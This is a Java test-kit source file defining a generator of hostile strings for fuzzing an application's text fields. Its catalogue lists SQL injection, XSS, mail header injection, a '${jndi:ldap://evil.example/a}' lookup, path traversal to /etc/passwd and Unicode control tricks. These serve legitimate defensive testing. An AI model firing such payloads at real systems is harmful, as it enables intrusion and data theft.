package io.github.entraide.testkit.generators;

import static io.github.entraide.testkit.property.Gens.constant;
import static io.github.entraide.testkit.property.Gens.elements;
import static io.github.entraide.testkit.property.Gens.frequency;
import static io.github.entraide.testkit.property.Gens.integers;
import static io.github.entraide.testkit.property.Gens.weighted;

import io.github.entraide.testkit.property.Gen;
import io.github.entraide.testkit.property.Gens;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * Strings an attacker, a broken client or a careless copy-and-paste sends: what every text field of
 * an application built on Entraide must either refuse with a clear error or store verbatim and show
 * escaped. The payloads come in named families ({@link #families()}):
 *
 * <ul>
 *   <li>{@code unicode}: lone (unpaired) UTF-16 surrogates, U+0000, the byte-order mark, the
 *       right-to-left override U+202E and other bidirectional controls, zero-width joiners and
 *       spaces, stacked combining marks, emoji ZWJ sequences and flags, other supplementary
 *       (non-BMP) characters, the same word in NFC and in NFD, U+2028 and U+2029, full-width
 *       letters, non-characters U+FFFE and U+FFFF;
 *   <li>{@code control}: CR, LF, CR LF, TAB, ESC (with an ANSI sequence), DEL, C1 controls (U+0085,
 *       U+009B), vertical tab and form feed;
 *   <li>{@code sql}: {@code '; DROP TABLE ...; --}, {@code " OR 1=1}, backslash escapes, PostgreSQL
 *       dollar quoting {@code $$}, comments, {@code UNION SELECT}, a {@code LIKE} wildcard;
 *   <li>{@code html}: {@code <script>}, attribute break-outs such as
 *       {@code "><img src=x onerror=alert(1)>}, {@code javascript:} URLs, {@code </textarea>},
 *       entities, an SVG handler, a template expression;
 *   <li>{@code mail}: header injection with CR LF ({@code \r\nBcc: victim@example.org}), the same
 *       percent-encoded ({@code %0d%0a}), bare LF, RFC 2047 encoded-words ({@code =?utf-8?q?...?=}),
 *       a folded header, a fake MIME boundary, an SMTP end-of-data line;
 *   <li>{@code format}: {@code %s %n {0}}, {@code ${jndi:...}}, {@code {{7*7}}}, {@code #{...}};
 *   <li>{@code path}: {@code ../../etc/passwd}, its Windows and percent-encoded forms, a NUL-byte
 *       suffix, a file URL;
 *   <li>{@code size}: very long strings built by {@link #huge(int)} (up to a megabyte).
 * </ul>
 *
 * <p>{@link #payloads()} draws one payload, sometimes wrapped in ordinary text; {@link #strings()}
 * adds very long strings; {@link #longerThan(int)} gives strings just over a field's maximum length.
 * Every generator shrinks through the harness toward the first payload of the catalogue (a short
 * SQL string) and toward no wrapping, so that a failure is reported with the simplest payload that
 * still fails. Immutable and thread-safe.
 */
public final class HostileStrings {

    /** One megabyte of text, in characters: the largest string {@link #strings()} draws. */
    public static final int ONE_MEGABYTE = 1 << 20;

    private static final Map<String, List<String>> FAMILIES = buildFamilies();
    private static final List<String> ALL = flatten(FAMILIES);

    private HostileStrings() {
    }

    /**
     * The catalogue, by family name ({@code sql}, {@code html}, {@code mail}, {@code format},
     * {@code path}, {@code unicode}, {@code control}), in a stable order.
     *
     * @return the payloads of each family, unmodifiable
     */
    public static Map<String, List<String>> families() {
        return FAMILIES;
    }

    /**
     * Every payload of the catalogue, in a stable order (SQL first).
     *
     * @return the payloads, unmodifiable
     */
    public static List<String> catalogue() {
        return ALL;
    }

    /**
     * One payload of the catalogue, alone (half the time) or between ordinary words, which is how
     * it arrives inside a real text. Shrinks toward the first payload, alone.
     *
     * @return the generator
     */
    public static Gen<String> payloads() {
        return Gen.zip(elements(ALL), elements("", "Bonjour ", "x"), (payload, before) -> before + payload)
                .flatMap(text -> elements(text, text + " merci", "\u00e9" + text + "\u00e9"));
    }

    /**
     * A hostile string: mostly a {@linkplain #payloads() payload}, sometimes a mix of hostile code
     * points ({@link Gens#hostileStrings()}), sometimes two payloads run together, and one time in
     * forty a very long string (10,000 characters or one megabyte). Shrinks toward a short payload.
     *
     * @return the generator
     */
    public static Gen<String> strings() {
        return frequency(
                weighted(24, payloads()),
                weighted(8, Gens.hostileStrings()),
                weighted(6, Gen.zip(payloads(), payloads(), String::concat)),
                weighted(1, elements(10_000, ONE_MEGABYTE).map(HostileStrings::huge)));
    }

    /**
     * Strings from {@code max + 1} to {@code max + 8} characters (UTF-16 units) long, made of hostile
     * payloads: just too long for a field whose maximum length is {@code max}. Shrinks toward
     * {@code max + 1}.
     *
     * @param max the field's maximum length, at least 0
     * @return the generator
     * @throws IllegalArgumentException if {@code max} is negative
     */
    public static Gen<String> longerThan(int max) {
        if (max < 0) {
            throw new IllegalArgumentException("max must be at least 0: " + max);
        }
        return Gen.zip(integers(1, 8), elements(ALL), (extra, payload) -> {
            StringBuilder text = new StringBuilder(max + extra + payload.length());
            while (text.length() < max + extra) {
                text.append(payload.isEmpty() ? "x" : payload);
            }
            text.setLength(max + extra);
            return text.toString();
        });
    }

    /**
     * A string of exactly {@code length} UTF-16 units repeating a mix of payloads (HTML, SQL, CR LF,
     * an emoji, a combining mark), for size limits: {@code huge(ONE_MEGABYTE)} is a megabyte of
     * characters.
     *
     * @param length the length, at least 0
     * @return the string
     * @throws IllegalArgumentException if {@code length} is negative
     */
    public static String huge(int length) {
        if (length < 0) {
            throw new IllegalArgumentException("length must be at least 0: " + length);
        }
        String unit = "<script>alert(1)</script>'; DROP TABLE member; --\r\nBcc: x@example.org \uD83D\uDE00e\u0301 ";
        StringBuilder text = new StringBuilder(length + unit.length());
        while (text.length() < length) {
            text.append(unit);
        }
        text.setLength(length);
        if (length > 0 && Character.isHighSurrogate(text.charAt(length - 1))) {
            text.setCharAt(length - 1, 'x');
        }
        return text.toString();
    }

    /**
     * Payloads of one family.
     *
     * @param family a key of {@link #families()}
     * @return a generator of that family's payloads, shrinking toward the first
     * @throws IllegalArgumentException if there is no such family
     */
    public static Gen<String> family(String family) {
        List<String> payloads = FAMILIES.get(family);
        if (payloads == null) {
            throw new IllegalArgumentException("no family " + family + "; known: " + FAMILIES.keySet());
        }
        return elements(payloads);
    }

    /**
     * A constant generator of {@link #huge(int) huge(ONE_MEGABYTE)}, built once per draw.
     *
     * @return the generator
     */
    public static Gen<String> oneMegabyte() {
        return constant(ONE_MEGABYTE).map(HostileStrings::huge);
    }

    private static Map<String, List<String>> buildFamilies() {
        Map<String, List<String>> families = new LinkedHashMap<>();
        families.put("sql", List.of(
                "'; DROP TABLE entraide_member; --",
                "\" OR 1=1 --",
                "' OR '1'='1",
                "Robert'); DROP TABLE students;--",
                "\\'; SELECT pg_sleep(10); --",
                "\\\\ \\0 \\n \\x27",
                "$$; DROP TABLE entraide_offer; $$",
                "$tag$ x $tag$",
                "1 UNION SELECT email, phone FROM entraide_member --",
                "/* comment */ -- x",
                "%_%",
                "O'Brien \"the\" `tick`"));
        families.put("html", List.of(
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "'><svg onload=alert(1)>",
                "javascript:alert(document.cookie)",
                "</textarea><script>alert(1)</script>",
                "</title><b>bold</b>",
                "&lt;script&gt; &amp; &#60; &#x3C;",
                "<a href=\"javascript:alert(1)\">clic</a>",
                "<!-- <iframe src=//evil.example> -->",
                "{{constructor.constructor('alert(1)')()}}",
                "<style>body{display:none}</style>",
                "  <b>padded</b> \t "));
        families.put("mail", List.of(
                "\r\nBcc: victim@example.org",
                "x@example.org\r\nBcc: victim@example.org",
                "Camille\r\nSubject: gagné\r\n\r\ncorps injecté",
                "%0d%0aBcc: victim@example.org",
                "\nTo: victim@example.org",
                "=?utf-8?q?Bcc=3A_victim=40example=2Eorg?=",
                "=?utf-8?b?PHNjcmlwdD4=?=",
                "Camille\r\n Folded: continuation",
                "--boundary\r\nContent-Type: text/html\r\n\r\n<script>x</script>",
                "\r\n.\r\nMAIL FROM:<evil@example.org>",
                "\"Camille\" <evil@example.org>",
                "a@example.org, b@example.org"));
        families.put("format", List.of(
                "%s %n {0}",
                "%d %x %99999999s",
                "${jndi:ldap://evil.example/a}",
                "{{7*7}} #{7*7} ${7*7}",
                "{0} {1} '{' }",
                "\\u0000 \\n"));
        families.put("path", List.of(
                "../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "....//....//",
                "file:///etc/passwd",
                "..",
                "/etc/passwd\u0000.png"));
        families.put("unicode", List.of(
                "a\u0000b",
                "\uD800",
                "abc\u202Egpj.exe",
                "x\uDC00y",
                "\uDBFF\uD800",
                "\uFEFFbom",
                "\u200E\u200F\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069",
                "z\u200Bw\u200Cj\u200Dn\u2060",
                "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A\u035B\u035C\u035D",
                "\u0301",
                "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66",
                "\uD83C\uDDEB\uD83C\uDDF7 \uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
                "\uD835\uDC00\uD835\uDFFF \uDBFF\uDFFD",
                Normalizer.normalize("Hélène Çà", Normalizer.Form.NFC),
                Normalizer.normalize("Hélène Çà", Normalizer.Form.NFD),
                "ligne\u2028suivante\u2029paragraphe",
                "\uFF21\uFF22\uFF23\uFF1C\uFF53\uFF43\uFF52\uFF49\uFF50\uFF54\uFF1E",
                "\uFFFE\uFFFF\uFFFD",
                "\u00A0\u3000\u2003 ",
                "\u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u05E2\u05D1\u05E8\u05D9\u05EA"));
        families.put("control", List.of(
                "a\rb",
                "a\nb",
                "a\r\nb",
                "a\tb",
                "\u001B[31mrouge\u001B[0m",
                "del\u007F",
                "c1\u0085\u009B",
                "vt\u000Bff\u000C",
                "bell\u0007bs\u0008"));
        Map<String, List<String>> frozen = new LinkedHashMap<>();
        families.forEach((name, list) -> frozen.put(name, List.copyOf(list)));
        return Collections.unmodifiableMap(frozen);
    }

    private static List<String> flatten(Map<String, List<String>> families) {
        List<String> all = new ArrayList<>();
        families.values().forEach(all::addAll);
        return List.copyOf(all);
    }
}
